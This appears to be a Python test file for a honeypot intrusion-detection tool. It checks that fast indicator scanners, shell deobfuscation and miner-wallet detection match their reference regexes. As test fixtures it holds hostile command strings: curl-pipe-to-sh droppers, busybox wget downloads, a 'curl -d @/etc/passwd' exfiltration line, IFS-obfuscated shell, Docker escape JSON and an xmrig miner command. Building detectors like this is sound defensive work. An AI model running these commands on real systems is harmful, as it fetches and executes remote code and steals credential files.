"""IOC extraction's fast scanners return what the reference regexes and functions return."""

from __future__ import annotations

import random
import sys

from hypothesis import given, settings
from hypothesis import strategies as st

from honeyguard.detect.iocs import anchored
from honeyguard.detect.iocs import patterns as P
from honeyguard.detect.iocs.extract import extract_iocs, speaks_of_mining
from honeyguard.detect.normalize import deobfuscate_shell
from tests.detect.test_fast_paths import _deobfuscate_reference

layers_module = sys.modules["honeyguard.detect.iocs.layers"]  # the package exports its function `layers`

SHAPES = [
    b"",
    b"wget http://198.51.100.7/x; curl -s HTTPS://Bad-Host.xyz:8443/a|sh",
    b"xhttp://no.example/ stratum+tcp://pool.supportxmr.com:3333 stratum2+tcp://p.example:1",
    b"http://a.example/?u=http://b.example/c ldap://198.51.100.7:1389/a rmi://x.example/o",
    b"://x ://y a://b 1://c http:// https://",
    b"10.0.0.1 1.2.3.4.5 999.1.1.1 01.2.3.4 .1.2.3.4 1.2.3.4. 255.255.255.255 192.168.1.1/24",
    b"1.2.3 ... 1..2.3.4 12.34.56.78:80 a1.2.3.4 1.2.3.4a",
    b"busybox  wget -g 198.51.100.7 -r /Mozi.m; BUSYBOX TFTP -g x; ftpget fetch lwp-download lynx aria2c",
    b"wgetcurl curlwget xwget wget_ curl-o wget\nwget",
    b'{"Cmd":["sh","-c","curl http://198.51.100.30/i.sh|sh"],"Image":"alpine"}',
]


def _random_texts(count: int) -> list[bytes]:
    rnd = random.Random(11)
    pieces = [
        b"http",
        b"://",
        b"stratum+tcp",
        b"wget",
        b"curl",
        b"busybox ",
        b"tftp",
        b"1",
        b"25",
        b"255",
        b".",
        b" ",
        b"/",
        b"x",
        b"-",
        b"+",
        b":",
        b";",
        b"\n",
        b"A",
        b"\\",
        b'"',
        b"ftpget",
        b"fetch",
        b"=",
        b"9",
        b"_",
        b"HTTPS",
        b"Ftp",
        b"ldap",
        b"stratum2+tcp",
        b"x+",
        b"1234",
    ]
    return [b"".join(rnd.choice(pieces) for _ in range(rnd.randint(0, 40))) for _ in range(count)]


def test_anchored_scans_equal_findall() -> None:
    for text in SHAPES + _random_texts(20000):
        assert anchored.urls(text) == anchored.py_urls(text) == P.URL.findall(text), text
        assert anchored.ipv4s(text) == anchored.py_ipv4s(text) == P.IPV4.findall(text), text
        expected = [(m.group(), m.group(1).lower(), m.group(2)) for m in P.DOWNLOAD_CMD.finditer(text)]
        assert anchored.download_commands(text) == anchored.py_download_commands(text) == expected, text


def test_url_parts_without_user_info_is_url_parts_where_there_is_no_at_sign() -> None:
    candidates = [u for text in SHAPES + _random_texts(20000) for u in P.URL.findall(text)]
    candidates += [b"HTTP://[::1]:80/x", b"http://a-.b/", b"ftp://" + b"a" * 70 + b".com", b"x://1.2.3.4:123456"]
    assert len(candidates) > 500
    for url in candidates:
        if b"@" not in url:
            fast, reference = P.URL_PARTS_NO_USERINFO.match(url), P.URL_PARTS.match(url)
            assert (fast and fast.groups()) == (reference and reference.groups()), url


def test_anchored_scans_of_hostile_text_finish() -> None:
    # many anchors that never complete a match: each is tried a bounded number of times
    for text in (b"a://" * 16000, b"9." * 32000, b"wgetx" * 12000, b"1.2.3." * 10000):
        assert anchored.urls(text) == anchored.py_urls(text) == P.URL.findall(text)
        assert anchored.ipv4s(text) == anchored.py_ipv4s(text) == P.IPV4.findall(text)
        assert isinstance(extract_iocs([text]), list)


def test_repeated_command_in_every_layer_is_reported_once_with_its_role() -> None:
    # the same dropper raw, JSON-escaped and shell-quoted: one set of IOCs, the strongest role kept
    text = (
        b'{"Cmd":["sh","-c","curl http://198.51.100.31/a.sh|sh; w\'g\'et http://198.51.100.31/a.sh;"],'
        b'"Env":["X=;\\u0063url -d @/etc/passwd http://198.51.100.32/u"]}'
    )
    found = {(i.type, i.value, i.role) for i in extract_iocs([text, text])}
    assert ("url", "http://198.51.100.31/a.sh", "download") in found
    assert ("url", "http://198.51.100.32/u", "exfil") in found
    assert len({(kind, value) for kind, value, _ in found}) == len(found)


SHELL_SHAPES = [
    b"w'g'et${IFS}http://x/a",
    b"cat$IFS$9/etc/passwd",
    b"{wget,-q,http://x/a}",
    b"w\\get x",
    b'{"Hostname":"","Cmd":["sh","-c","curl http://198.51.100.7/a|sh"],"HostConfig":{"Binds":["/:/mnt"]}}',
    b'{"Env":["A=\\"b\\"",""],"Labels":{}} {a,b} {,} {a,} {x' + b"y" * 300 + b",z}",
    b"{" + b"a" * 200 + b",b}{" + b"a" * 201 + b",b}{a," + b"b" * 400 + b"}{a," + b"b" * 401 + b"}",
    b'"\'\'" \'""\' $@ ${@} $1 \\/x \\"',
]


def _noise(count: int, pieces: list[bytes]) -> list[bytes]:
    rnd = random.Random(5)
    return [b"".join(rnd.choice(pieces) for _ in range(rnd.randint(0, 30))) for _ in range(count)]


def test_shell_deobfuscation_equals_the_three_regexes_on_noise() -> None:
    pieces = [
        b"{",
        b"}",
        b",",
        b" ",
        b'"',
        b"'",
        b"$",
        b"IFS",
        b"{IFS}",
        b"$1",
        b"@",
        b"\\",
        b"a",
        b"1",
        b"/",
        b"\n",
        b"x" * 150,
        b"y" * 250,
        b"-",
        b"\t",
        b'""',
        b"''",
    ]
    for text in SHELL_SHAPES + SHAPES + _noise(30000, pieces):
        assert deobfuscate_shell(text) == _deobfuscate_reference(text), text


def test_base64_tokens_equal_the_regex() -> None:
    pieces = [b"A", b"=", b"==", b"===", b" ", b"/", b"-", b"_", b"+", b"a" * 15, b"b" * 16, b"\n", b"x" * 40, b"."]
    for text in SHAPES + SHELL_SHAPES + _noise(30000, pieces) + [b"QUJD" * 100 + b"= " * 40]:
        expected = layers_module._BASE64.findall(text)[: layers_module.MAX_TOKENS]
        assert layers_module._base64_tokens(text) == expected, text


def test_every_wallet_kind_is_found_where_mining_is_spoken_of() -> None:
    monero = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"
    wallets = [
        monero,
        "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq",
        "1BoatSLRHtKNngkdXEeobR76b53LETtpyT",
        "0x52908400098527886E0F7030069857D2E4169EE7",
    ]
    text = f"./xmrig -o 198.51.100.40:3333 -u {wallets[0]} --donate-level 1; pool {' '.join(wallets[1:])}"
    found = {(i.type, i.value, i.role) for i in extract_iocs([text.encode()])}
    for wallet in wallets:
        assert ("wallet", wallet, "miner-pool") in found
    assert ("ip", "198.51.100.40", "miner-pool") in found
    assert not any(
        kind == "wallet"
        for kind, _, _ in {(i.type, i.value, i.role) for i in extract_iocs([f"echo {' '.join(wallets)}".encode()])}
    )  # no word of mining: no wallet


_MINER_PIECES = st.sampled_from(
    [b"pool", b"POOL", b"Pool", b"-u", b"-U", b"xmrig", b"Xmr-Stak", b"--user=", b"--USER ", b"--user", b"wallet",
     b"stratum", b"_", b"a", b"1", b" ", b"\t", b"\x0b", b"\x0c", b"\n", b"\x85", b"\xa0", b"\xe9", b"\xc0", b".",
     b"-", b"=", b"monerO", b"RandomX", b"--donate-level", b"nicehash", b"cpuminer", b"minerd", b"cryptonight"]
)  # fmt: skip


@settings(max_examples=2000, deadline=None)
@given(st.lists(_MINER_PIECES, max_size=12).map(b"".join) | st.binary(max_size=64))
def test_speaks_of_mining_is_the_miner_context_regex(text: bytes) -> None:
    assert speaks_of_mining(text.lower()) == (P.MINER_CONTEXT.search(text) is not None)
